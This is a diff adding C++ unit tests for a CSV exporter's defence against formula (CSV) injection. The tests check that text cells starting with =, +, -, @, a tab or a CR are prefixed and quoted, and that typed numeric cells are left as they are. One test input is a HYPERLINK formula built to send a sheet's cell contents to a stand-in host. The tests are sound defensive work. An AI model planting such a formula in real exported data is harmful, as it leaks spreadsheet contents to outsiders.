@@ -22,6 +22,34 @@ TEST(Csv, QuotesOnlyWhatNeedsIt) {
   EXPECT_EQ(CsvRow({std::string("1"), std::nullopt, std::string("x,y")}), "1,,\"x,y\"\r\n");
 }
 
+// CSV injection (OWASP): a text cell starting with =, +, -, @, a tab or a CR is a formula to a
+// spreadsheet (a post's text "=HYPERLINK(...)" a link that sends the sheet's cells away). Such a
+// cell gets a leading single quote, and is quoted (issue 49).
+TEST(Csv, FormulaCellsAreText) {
+  EXPECT_EQ(CsvField(std::string("=HYPERLINK(\"http://x/?\"&A1,\"y\")")),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"");
+  EXPECT_EQ(CsvField(std::string("+1")), "\"'+1\"");
+  EXPECT_EQ(CsvField(std::string("-2+3")), "\"'-2+3\"");
+  EXPECT_EQ(CsvField(std::string("@SUM(A1:A9)")), "\"'@SUM(A1:A9)\"");
+  EXPECT_EQ(CsvField(std::string("\t=1")), "\"'\t=1\"");
+  EXPECT_EQ(CsvField(std::string("\r=1")), "\"'\r=1\"");
+  EXPECT_EQ(CsvField(std::string("a=b")), "a=b") << "only the first character makes a formula";
+  EXPECT_EQ(CsvField(std::string("")), "");
+  EXPECT_EQ(CsvRow({std::string("1"), std::string("=1+1"), std::nullopt}), "1,\"'=1+1\",\r\n");
+}
+
+// What the database typed (a count, an id, a time) is no formula and is written as it is: "-1"
+// stays a number. Only text is made safe.
+TEST(Csv, TypedCellsAsTheyAre) {
+  EXPECT_EQ(CsvField(std::string("-1"), true), "-1");
+  EXPECT_EQ(CsvField(std::string("-1"), false), "\"'-1\"") << "text is text, whatever it looks like";
+  EXPECT_EQ(CsvField(std::string("+1.5e3"), true), "+1.5e3");
+  EXPECT_EQ(CsvRow({std::string("-20"), std::string("-20"), std::string("@a"), std::string("-3")}, {true, false}),
+            "-20,\"'-20\",\"'@a\",\"'-3\"\r\n")
+      << "typed for the first column only; a missing entry is text";
+  EXPECT_EQ(CsvRow({std::string("-20"), std::string("-3")}, {true, true}), "-20,-3\r\n");
+}
+
 TEST(Twarc2, PageHasTwarc2sShapeAndOurProvenanceBesideIt) {
   const std::vector<StoredPost> posts = {
       {20, R"({"id": "20", "text": "caf\u00e9 ☕", "author_id": "9"})", R"({"id": "9", "username": "nine"})", std::nullopt},
